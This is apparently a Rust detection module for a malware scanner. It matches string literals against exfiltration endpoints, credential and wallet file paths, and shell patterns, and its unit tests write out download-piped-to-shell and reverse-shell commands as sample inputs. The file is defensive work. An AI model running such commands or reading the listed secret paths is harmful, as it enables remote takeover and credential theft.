//! Indicators in string literals: where stolen data goes (Discord webhooks, Telegram bots,
//! paste sites, raw IP URLs, URLs hidden with ROT13) and what stealers read (SSH keys, cloud
//! credentials, browser profiles, wallet extensions), and shell commands that run a download
//! (`curl ... | sh`) or hand a shell to a socket (reverse shells).
//!
//! Patterns are matched against literal text only, so the same words in comments or
//! documentation do not count.

use regex::Regex;
use std::sync::OnceLock;

/// What kind of indicator a literal holds.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Indicator {
    /// A place data is sent to; `strong` is false for loopback and private addresses, which
    /// are how tests and local services are reached.
    Endpoint { what: String, strong: bool },
    /// A path to secrets.
    Credential { what: String },
    /// A shell command that runs what it downloads (`curl ... | sh`) or hands a shell to a
    /// socket (`bash -i >& /dev/tcp/...`, `nc -e /bin/sh`).
    Shell { what: String },
}

struct Patterns {
    discord: Regex,
    telegram: Regex,
    paste: Regex,
    raw_ip: Regex,
    rot13_url: Regex,
    credentials: Vec<(Regex, &'static str)>,
    shells: Vec<(Regex, &'static str)>,
}

fn patterns() -> &'static Patterns {
    static P: OnceLock<Patterns> = OnceLock::new();
    P.get_or_init(|| {
        let r = |s: &str| Regex::new(s).expect("static pattern");
        Patterns {
            discord: r(r"(?i)discord(?:app)?\.com/api/webhooks/"),
            telegram: r(r"(?i)api\.telegram\.org/bot"),
            paste: r(
                r"(?i)\b(?:pastebin\.com/raw|paste\.ee/|hastebin\.com|rentry\.co/|ghostbin\.|transfer\.sh|pastebin\.pl|dpaste\.(?:com|org)/)",
            ),
            raw_ip: r(r"(?i)\b(?:https?|ftp|wss?|tcp)://(\d{1,3})\.(\d{1,3})\.(\d{1,3})\.(\d{1,3})\b"),
            rot13_url: r(r"\buggcf?://[A-Za-z0-9./_-]*"),
            shells: vec![
                (
                    r(r"(?i)\b(?:curl|wget)\b[^|;&\n]*\|\s*(?:sudo\s+)?(?:/\S*/)?(?:ba|z|da|k)?sh\b"),
                    "a download piped to a shell",
                ),
                (
                    r(r"(?i)\bsh\s+-i\b[^\n]*/dev/tcp/|/dev/tcp/\d{1,3}(?:\.\d{1,3}){3}/\d+|\bnc(?:at)?\s+(?:-\S+\s+)*-e\s+/bin/(?:ba)?sh"),
                    "a reverse shell",
                ),
            ],
            credentials: vec![
                (r(r"(?:^|[~/\\])\.ssh(?:[/\\]|$)"), "SSH keys (~/.ssh)"),
                (r(r"(?i)\.aws[/\\]credentials"), "AWS credentials (~/.aws/credentials)"),
                (r(r"(?i)\.git-credentials"), "git credentials (~/.git-credentials)"),
                (r(r"(?i)\.kube[/\\]config"), "Kubernetes credentials (~/.kube/config)"),
                (r(r"(?i)\.docker[/\\]config\.json"), "Docker registry credentials"),
                (
                    r(r"(?i)(?:Google[/\\]Chrome|BraveSoftware|Microsoft[/\\]Edge|Chromium)[/\\]+User Data|google-chrome[/\\]|\.mozilla[/\\]firefox|Login Data|Local State"),
                    "a browser profile (saved passwords and cookies)",
                ),
                (
                    r(r"nkbihfbeogaeaoehlefnkodbefgpgknn|bfnaelmomeimhlpmgjnjophhpkkoljpa|ibnejdfjmmkpcnlpebklmnkoeoihofec|hnfanknocfeofbddgcijnmhnfnkdnaad|fhbohimaelbohpjbbldcngcnapndodjp|egjidjbpglichdcondbcbdnbeeppgdph"),
                    "a crypto wallet browser extension",
                ),
                (
                    r(r"(?i)Exodus[/\\]exodus\.wallet|Electrum[/\\]wallets|\.electrum[/\\]|Ethereum[/\\]keystore|\bwallet\.dat\b|atomic[/\\]Local Storage"),
                    "a crypto wallet",
                ),
            ],
        }
    })
}

/// Every indicator in one literal's text.
pub fn find(text: &str) -> Vec<Indicator> {
    let p = patterns();
    let mut out = Vec::new();
    let endpoint = |what: &str, strong: bool| Indicator::Endpoint {
        what: what.to_owned(),
        strong,
    };
    if p.discord.is_match(text) {
        out.push(endpoint("a Discord webhook", true));
    }
    if p.telegram.is_match(text) {
        out.push(endpoint("the Telegram bot API", true));
    }
    if p.paste.is_match(text) {
        out.push(endpoint("a paste site", true));
    }
    if let Some(c) = p.raw_ip.captures(text) {
        let octets: Vec<u8> = (1..=4)
            .filter_map(|i| c.get(i).and_then(|m| m.as_str().parse().ok()))
            .collect();
        if octets.len() == 4 {
            let local = is_local(&octets);
            let what = format!(
                "a URL to a raw IP address ({}){}",
                &c[0],
                if local { ", local" } else { "" }
            );
            out.push(endpoint(&what, !local));
        }
    }
    if let Some(m) = p.rot13_url.find(text) {
        out.push(endpoint(
            &format!(
                "a URL hidden with ROT13 (`{}` reads `{}`)",
                m.as_str(),
                rot13(m.as_str())
            ),
            true,
        ));
    }
    for (re, what) in &p.credentials {
        if re.is_match(text) {
            out.push(Indicator::Credential {
                what: (*what).to_owned(),
            });
        }
    }
    for (re, what) in &p.shells {
        if re.is_match(text) {
            out.push(Indicator::Shell {
                what: (*what).to_owned(),
            });
        }
    }
    out
}

/// Loopback, private, link-local and unspecified addresses: how tests and local services are
/// reached, not where data is stolen to.
fn is_local(o: &[u8]) -> bool {
    matches!(
        (o[0], o[1]),
        (127, _) | (10, _) | (0, _) | (192, 168) | (169, 254)
    ) || (o[0] == 172 && (16..32).contains(&o[1]))
}

/// ROT13, which maps ASCII letters and leaves everything else.
pub fn rot13(s: &str) -> String {
    s.chars()
        .map(|c| match c {
            'a'..='z' => (((c as u8 - b'a') + 13) % 26 + b'a') as char,
            'A'..='Z' => (((c as u8 - b'A') + 13) % 26 + b'A') as char,
            _ => c,
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn endpoints() {
        let f = find("https://discord.com/api/webhooks/1/abc");
        assert!(matches!(&f[0], Indicator::Endpoint { strong: true, .. }));
        let f = find("http://127.0.0.1:9/");
        assert!(matches!(&f[0], Indicator::Endpoint { strong: false, .. }));
        let f = find("http://203.0.113.7/x");
        assert!(matches!(&f[0], Indicator::Endpoint { strong: true, .. }));
        let f = find("uggcf://rknzcyr.vainyvq");
        assert!(
            matches!(&f[0], Indicator::Endpoint { what, .. } if what.contains("https://example.invalid"))
        );
        assert!(find("https://example.org/docs").is_empty());
    }

    #[test]
    fn shells() {
        let shell = |t: &str| find(t).iter().any(|i| matches!(i, Indicator::Shell { .. }));
        assert!(shell("curl -fsSL https://example.invalid/i.sh | sh"));
        assert!(shell("wget -qO- http://x.invalid/a | sudo bash"));
        assert!(shell("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"));
        assert!(shell("nc -e /bin/sh 203.0.113.9 4444"));
        assert!(!shell("curl -O https://example.invalid/file.tar.gz"));
        assert!(!shell("ls | grep sh"));
    }

    #[test]
    fn credentials() {
        assert_eq!(find("~/.aws/credentials").len(), 1);
        assert_eq!(find("~/.ssh/id_rsa").len(), 1);
        assert_eq!(find(".ssh").len(), 1);
        assert!(find("ssh://git@example.org").is_empty());
        assert!(find("config.sshd").is_empty());
    }
}
